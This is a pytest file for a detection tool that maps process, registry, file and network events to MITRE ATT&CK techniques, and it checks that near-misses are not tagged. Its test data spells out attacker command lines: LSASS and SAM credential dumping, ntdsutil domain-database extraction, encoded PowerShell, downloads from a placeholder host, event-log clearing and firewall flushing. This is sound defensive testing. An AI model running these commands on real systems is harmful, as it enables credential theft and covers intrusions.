"""Which events are instances of which techniques, and what a file of patterns may hold."""

from pathlib import Path

import pytest

from graphad.attack_tags import OWN, load, tagged
from graphad.errors import GraphadError
from graphad.findings import Entity
from graphad.incident_graph import build
from graphad.incident_text import tell
from graphad.schema import ACTIONS, ENTITY_TYPES
from tests.sample_findings import finding

SYSTEM = "C:\\Windows\\System32\\"
SERVICES = "HKLM\\System\\CurrentControlSet\\Services\\"


def techniques(src: str, action: str, dst: str, command: str | None = None) -> list[str]:
    one = finding("a", (src, action, dst, 9.0, 0))
    name, kind = dst, one.entities[1].type
    one.entities[1] = Entity(name, kind, one.entities[1].key, one.entities[1].key, command)
    made = build([one])
    return [tag.technique for tag in tagged(made.entities, made.events, load())]


FITS = [
    ("T1059.001", "cmd.exe", "launch", SYSTEM + "WindowsPowerShell\\v1.0\\PowerShell.EXE", None),
    ("T1059.001", "cmd.exe", "launch", "/usr/bin/pwsh", None),
    ("T1059.003", "x.exe", "launch", SYSTEM + "cmd.exe", None),
    ("T1059.004", "nginx", "launch", "/usr/bin/dash", None),
    ("T1059.005", "x.exe", "launch", SYSTEM + "wscript.exe", "wscript.exe C:\\a.vbs"),
    ("T1059.007", "x.exe", "launch", SYSTEM + "cscript.exe", "cscript //E:jscript a.js"),
    ("T1059.006", "sh", "launch", "/usr/bin/python3.11", None),
    ("T1027.010", "x", "launch", "powershell.exe", "powershell -noP -w 1 -enc SQBmACgAJABQAFMAVgBF"
     "AHIA"),
    ("T1047", SYSTEM + "wbem\\WmiPrvSE.exe", "launch", "x.exe", None),
    ("T1047", "x.exe", "launch", SYSTEM + "wbem\\WMIC.exe", "wmic process call create calc"),
    ("T1546.003", "svchost.exe", "launch", SYSTEM + "wbem\\scrcons.exe", None),
    ("T1021.006", "svchost.exe", "launch", SYSTEM + "wsmprovhost.exe", None),
    ("T1021.006", "x.exe", "connect", "socket 10.0.0.5:5985", None),
    ("T1021.001", "mstsc.exe", "connect", "socket 10.0.0.5:3389", None),
    ("T1021.004", "ssh", "connect", "socket [2001:db8::1]:22", None),
    ("T1021.002", "x.exe", "write", "file \\\\srv\\ADMIN$\\x.exe", None),
    ("T1021.003", "svchost.exe", "launch", "C:\\Office\\EXCEL.EXE", "EXCEL.EXE /automation -Emb"),
    ("T1543.003", "services.exe", "write", "registry " + SERVICES + "x\\ImagePath", None),
    ("T1543.003", "user bob", "install", "service x", None),
    ("T1543.003", "x.exe", "launch", SYSTEM + "sc.exe", "sc.exe \\\\srv create x binPath= y"),
    ("T1569.002", "x.exe", "launch", SYSTEM + "sc.exe", "sc \\\\srv start x"),
    ("T1569.002", SYSTEM + "services.exe", "launch", SYSTEM + "cmd.exe", None),
    ("T1053.005", "x.exe", "launch", SYSTEM + "schtasks.exe", "schtasks /Create /tn x /tr y"),
    ("T1053.005", "user bob", "install", "task \\Updater", None),
    ("T1053.003", "x", "write", "file /etc/cron.d/x", None),
    ("T1053.003", "x", "rename", "file /var/spool/cron/crontabs/root", None),
    ("T1543.002", "x", "create", "file /etc/systemd/system/x.service", None),
    ("T1098.004", "x", "write", "file /root/.ssh/authorized_keys", None),
    ("T1546.004", "x", "write", "file /home/bob/.bashrc", None),
    ("T1547.001", "x.exe", "write",
     "registry HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", None),
    ("T1547.001", "x.exe", "create",
     "file C:\\Users\\b\\AppData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk", None),
    ("T1037.001", "x.exe", "write", "registry HKU\\S-1\\Environment\\UserInitMprLogonScript", None),
    ("T1112", "x.exe", "launch", SYSTEM + "reg.exe", "reg add HKLM\\X /v y"),
    ("T1003.001", "x.exe", "access", SYSTEM + "lsass.exe", None),
    ("T1003.001", "x.exe", "launch", SYSTEM + "rundll32.exe",
     "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full"),
    ("T1003.002", "x.exe", "launch", SYSTEM + "reg.exe", "reg save HKLM\\sam C:\\x.hiv"),
    ("T1003.002", "x.exe", "launch", SYSTEM + "esentutl.exe",
     "esentutl /y /vss C:\\Windows\\System32\\config\\SAM /d x"),
    ("T1003.003", "x.exe", "launch", SYSTEM + "ntdsutil.exe", 'ntdsutil "ac i ntds" ifm q'),
    ("T1003.008", "file /etc/shadow", "read", "cat", None),
    ("T1055", "x.exe", "inject", "notepad.exe", None),
    ("T1055.001", "x.exe", "launch", SYSTEM + "mavinject.exe", None),
    ("T1105", "sh", "launch", "/usr/bin/curl", "curl -o /tmp/x http://192.0.2.1/x"),
    ("T1105", "x", "launch", "powershell.exe", "powershell (New-Object Net.WebClient).Download"
     "String('http://192.0.2.1/')"),
    ("T1197", "x.exe", "launch", SYSTEM + "bitsadmin.exe", None),
    ("T1218.005", "x.exe", "launch", SYSTEM + "mshta.exe", None),
    ("T1218.010", "x.exe", "launch", SYSTEM + "regsvr32.exe", None),
    ("T1218.011", "x.exe", "launch", SYSTEM + "rundll32.exe", None),
    ("T1218.004", "x.exe", "launch", "C:\\Windows\\Microsoft.NET\\InstallUtil.exe", None),
    ("T1218.003", "x.exe", "launch", SYSTEM + "cmstp.exe", None),
    ("T1218.001", "x.exe", "launch", "C:\\Windows\\hh.exe", None),
    ("T1218.002", "x.exe", "launch", SYSTEM + "control.exe", "control.exe C:\\x.cpl"),
    ("T1127.001", "x.exe", "launch", "C:\\Windows\\Microsoft.NET\\MSBuild.exe", None),
    ("T1220", "x.exe", "launch", SYSTEM + "wbem\\wmic.exe", "wmic os get /format:http://x/a.xsl"),
    ("T1222.002", "sh", "launch", "/usr/bin/chmod", "chmod 755 /tmp/x"),
    ("T1562.004", "x.exe", "launch", SYSTEM + "netsh.exe", "netsh advfirewall firewall add rule"),
    ("T1562.004", "sh", "launch", "/usr/sbin/iptables", "iptables -F INPUT"),
    ("T1070.001", "x.exe", "launch", SYSTEM + "wevtutil.exe", "wevtutil cl Security"),
    ("T1070.003", "rm", "delete", "file /root/.bash_history", None),
    ("T1136.001", "x.exe", "launch", SYSTEM + "net1.exe", "net1 user bob S3cret! /add"),
    ("T1136.001", "sh", "launch", "/usr/sbin/useradd", "useradd bob"),
    ("T1098", "x.exe", "launch", SYSTEM + "net.exe", "net localgroup administrators bob /add"),
    ("T1033", "x.exe", "launch", SYSTEM + "whoami.exe", None),
    ("T1087.001", "x.exe", "launch", SYSTEM + "net.exe", "net user"),
    ("T1069.001", "x.exe", "launch", SYSTEM + "net.exe", "net localgroup Administrators"),
    ("T1069.002", "x.exe", "launch", SYSTEM + "net.exe", 'net group "Domain Admins" /domain'),
    ("T1016", "x.exe", "launch", SYSTEM + "ipconfig.exe", None),
    ("T1082", "sh", "launch", "/usr/bin/uname", None),
    ("T1057", "sh", "launch", "/usr/bin/ps", None),
    ("T1548.002", "x.exe", "write",
     "registry HKU\\S-1_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute", None),
    ("T1574.001", "x.exe", "create", "file \\\\?\\C:\\Windows\\System32\\wbem\\wbemcomn.dll", None),
]  # fmt: skip


@pytest.mark.parametrize(("technique", "src", "action", "dst", "command"), FITS)
def test_an_instance_is_tagged(
    technique: str, src: str, action: str, dst: str, command: str | None
) -> None:
    assert technique in techniques(src, action, dst, command)


def test_every_pattern_has_an_example() -> None:
    fitting = set()
    for _, src, action, dst, command in FITS:
        one = finding("a", (src, action, dst, 9.0, 0))
        one.entities[1].detail = command
        made = build([one])
        [event] = made.events
        ends = made.entities[event.src], made.entities[event.dst]
        fitting |= {i for i, pattern in enumerate(load()) if pattern.fits(event, *ends)}
    assert [load()[i].technique for i in range(len(load())) if i not in fitting] == []


@pytest.mark.parametrize(
    ("src", "action", "dst", "command"),
    [
        ("x.exe", "launch", "C:\\tools\\notpowershell.exe", "notpowershell.exe"),
        ("x.exe", "connect", "socket 10.0.0.5:33890", None),
        ("x.exe", "connect", "socket 10.0.0.5:2222", None),
        ("x.exe", "launch", SYSTEM + "net.exe", "net start spooler"),
        ("x.exe", "launch", SYSTEM + "reg.exe", "reg query HKLM\\Software"),
        ("x.exe", "launch", SYSTEM + "sc.exe", "sc query"),
        ("x", "read", "cat", None),
        ("file /etc/passwd", "read", "ls", None),
        ("x.exe", "write", "registry " + SERVICES + "x\\Parameters\\Start", None),
        ("x", "launch", "/usr/bin/bashful", None),
    ],
)
def test_what_only_looks_like_it_is_not(
    src: str, action: str, dst: str, command: str | None
) -> None:
    assert techniques(src, action, dst, command) == []


def test_the_file_uses_words_that_events_have() -> None:
    for pattern in load():
        assert pattern.words.get("action", frozenset()) <= set(ACTIONS)
        for key in ("src_type", "dst_type"):
            assert pattern.words.get(key, frozenset()) <= set(ENTITY_TYPES)
    names: dict[str, set[str]] = {}
    for pattern in load():
        names.setdefault(pattern.technique, set()).add(pattern.name)
    assert all(len(of_one) == 1 for of_one in names.values())


def test_a_tag_rests_on_its_first_event_and_counts_the_others() -> None:
    found = [
        finding("a", ("x.exe", "launch", "y.exe", 9, 0)),
        finding("b", ("x.exe", "launch", "cmd.exe", 9, 9, 4)),
        finding("c", ("y.exe", "launch", "cmd.exe", 9, 5, 3)),
    ]
    [tag] = tell(found, patterns=load()).tags
    assert (tag.technique, tag.event, tag.count) == ("T1059.003", 1, 2)
    assert tell(found).tags == []


HEAD = 'version = 1\n[[tag]]\ntechnique = "T1059"\n'
NAMED = HEAD + 'name = "x"\n'


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("version = ", "is no TOML"),
        ("\xff", "is no TOML"),
        ("x = " + "[" * 100_000, "is no TOML"),
        ("version = 2", "is no file of tags of version 1"),
        ("version = 1", "must hold version, date and"),
        ("version = 1\nother = 2\ntag = []", "must hold version, date and"),
        ("version = 1\ntag = [1]", "tag 1 is no table"),
        ('version = 1\n[[tag]]\nname = "x"', "has no technique such as"),
        ('version = 1\n[[tag]]\ntechnique = "T1"\nname = "x"', "has no technique such as"),
        (HEAD, "has no name"),
        (NAMED, "fits every event"),
        (NAMED + 'acton = ["a"]', "unknown key 'acton'"),
        (NAMED + 'action = "a"', "no list of words as action"),
        (NAMED + 'dst = "("', "no regular expression as dst"),
        (NAMED + 'dst = 7', "no regular expression as dst"),
        ("#" * 2_000_000, "is too large"),
    ],
)  # fmt: skip
def test_a_damaged_file_is_named(tmp_path: Path, text: str, words: str) -> None:
    path = tmp_path / "tags.toml"
    path.write_text(text, encoding="latin-1")
    with pytest.raises(GraphadError, match=r"tags\.toml") as caught:
        load(path)
    assert words in str(caught.value)


def test_there_must_be_a_file(tmp_path: Path) -> None:
    with pytest.raises(GraphadError, match="cannot be read"):
        load(tmp_path / "nowhere.toml")
    assert load(OWN) == load()


def test_the_example_of_the_docs_is_one_of_ours(tmp_path: Path) -> None:
    docs = (Path(__file__).parents[1] / "docs" / "incidents.md").read_text()
    example = tmp_path / "tags.toml"
    example.write_text(docs.partition("```toml\n")[2].partition("```")[0])
    [pattern] = load(example)
    assert pattern in load()
